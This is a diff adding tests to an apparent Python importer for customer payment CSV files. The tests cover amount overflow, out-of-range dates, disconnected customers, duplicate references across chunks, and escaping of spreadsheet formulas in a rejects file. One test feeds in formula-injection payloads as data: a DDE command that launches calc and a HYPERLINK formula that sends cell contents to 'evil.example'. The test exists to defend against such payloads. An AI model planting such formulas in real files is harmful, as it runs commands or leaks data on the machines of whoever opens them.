@@ -195,6 +195,42 @@ BAD_ROWS = [
         "PA20BQ0000001,2025-01,0,VTP,2025-01-20 09:30,R9",
         "Row 3, amount: “0” is not a positive whole number of VND",
     ),
+    # A sum of such amounts overflowed the rollups and took every dashboard down.
+    (
+        "PA20BQ0000001,2025-01,9223372036854775807,VTP,2025-01-20 09:30,R9",
+        "Row 3, amount: 9223372036854775807 VND is more than the largest payment accepted "
+        "(100.000.000.000 VND).",
+    ),
+    (
+        'PA20BQ0000001,2025-01,"100,000,000,001",VTP,2025-01-20 09:30,R9',
+        "Row 3, amount: 100,000,000,001 VND is more than the largest payment accepted",
+    ),
+    # Moments at the ends of the calendar broke the admin list and export_payments.
+    (
+        "PA20BQ0000001,2025-01,150000,VTP,0001-01-01T00:00:00-05:00,R9",
+        "Row 3, paid_at: “0001-01-01T00:00:00-05:00” is outside the accepted dates (01/01/2000 to ",
+    ),
+    (
+        "PA20BQ0000001,2025-01,150000,VTP,9999-12-31T23:59:59-05:00,R9",
+        "Row 3, paid_at: “9999-12-31T23:59:59-05:00” is outside the accepted dates",
+    ),
+    (
+        "PA20BQ0000001,2025-01,150000,VTP,9999-12-31 23:59,R9",
+        "Row 3, paid_at: “9999-12-31 23:59” is outside the accepted dates",
+    ),
+    (
+        "PA20BQ0000001,2025-01,150000,VTP,31/12/1999 23:59,R9",
+        "Row 3, paid_at: “31/12/1999 23:59” is outside the accepted dates",
+    ),
+    # Paid years before the customer was connected (01/2018).
+    (
+        "PA20BQ0000001,2025-01,150000,VTP,2005-01-20 09:30,R9",
+        "Row 3, paid_at: 20/01/2005 is before the customer was connected (01/2018).",
+    ),
+    (
+        "PA20BQ0000001,2025-01,150000,VTP,2005-01-20T09:30:00+07:00,R9",
+        "Row 3, paid_at: 20/01/2005 is before the customer was connected (01/2018).",
+    ),
     (
         "PA20BQ0000001,2025-01,-150000,VTP,2025-01-20 09:30,R9",
         "Row 3, amount: “-150000” is not a positive whole number of VND",
@@ -462,3 +498,88 @@ def test_an_export_of_one_period_holds_only_that_month(write, customers, channel
     assert rows[0] == HEADER.split(",")
     assert [row[5] for row in rows[1:]] == ["Q-1"]
     assert rows[1][1] == "2025-02"
+
+
+def test_it_refuses_payments_for_months_after_the_disconnection(write, existing, customers):
+    """A commune showed 3 non-cash payers of 2 active customers: months after disconnection."""
+    customers["bq1"].disconnected_on = date(2025, 1, 15)
+    customers["bq1"].save()
+    before = snapshot()
+
+    error = refused(
+        write(
+            HEADER,
+            "PA20BQ0000001,2025-01,150000,VTP,2025-01-20 09:30,LAST",
+            "PA20BQ0000001,2025-02,150000,VTP,2025-02-20 09:30,AFTER",
+        )
+    )
+
+    assert "1 row has problems: nothing was imported." in error
+    assert "Row 3, period: 02/2025 is after the customer was disconnected (01/2025)." in (
+        ImportBatch.objects.get().message
+    )
+    assert snapshot() == before
+
+
+def test_the_rejects_file_is_safe_to_open_in_a_spreadsheet(write, customers, channels):
+    path = write(
+        "customer_code,period,amount,channel_code,paid_at,reference,=cmd|' /C calc'!A0",
+        GOOD[0] + ",x",
+        '=HYPERLINK("http://evil.example/?"&A1;"Click"),2025-01,-5,+AGR,@SUM(1),-1+1,x',
+    )
+
+    import_file(path, "--skip-invalid")
+
+    rejects = ImportBatch.objects.get().rejects_file
+    with open(rejects, encoding="utf-8-sig", newline="") as file:
+        header, row = list(csv.reader(file))
+    assert header[-2] == "'=cmd|' /C calc'!A0"
+    assert row[:6] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1;"Click")',
+        "2025-01",
+        "-5",  # a number stays a number, to be corrected and imported again
+        "'+AGR",
+        "'@SUM(1)",
+        "'-1+1",
+    ]
+    assert not any(cell.startswith(("=", "+", "@")) for cell in [*header, *row])
+
+
+def test_a_reference_repeated_in_a_later_chunk_is_rejected_and_the_first_row_kept(
+    write, customers, channels, monkeypatch
+):
+    # The duplicate check works on disk and reports after every row is read: across chunks too.
+    monkeypatch.setattr("adoption.importers.CHUNK_ROWS", 2)
+    repeat = "PA20BQ0000002,2025-01,999000,VTP,2025-01-22 10:00,VTP-1"
+    path = write(HEADER, *GOOD, repeat, repeat.replace("VTP-1", "VTP-2"), repeat)
+
+    import_file(path, "--skip-invalid")
+
+    batch = ImportBatch.objects.get()
+    assert (batch.rows_read, batch.rows_imported, batch.rows_skipped, batch.rows_rejected) == (
+        6,
+        4,
+        0,
+        2,
+    )
+    assert Payment.objects.get(reference="VTP-1").amount == 150000
+    with open(batch.rejects_file, encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.reader(file))[1:]
+    assert [row[-1] for row in rows] == [
+        "reference: Duplicate of row 2: same channel and reference “VTP-1”."
+    ] * 2
+
+
+def test_a_dry_run_counts_a_reference_repeated_across_chunks_once(
+    write, customers, channels, monkeypatch
+):
+    monkeypatch.setattr("adoption.importers.CHUNK_ROWS", 1)
+    path = write(HEADER, *GOOD, GOOD[0])
+
+    with pytest.raises(CommandError):
+        import_file(path, "--dry-run")
+    import_file(path, "--dry-run", "--skip-invalid")
+
+    batch = ImportBatch.objects.latest("pk")
+    assert (batch.rows_read, batch.rows_imported, batch.rows_rejected) == (4, 3, 1)
+    assert Payment.objects.count() == 0
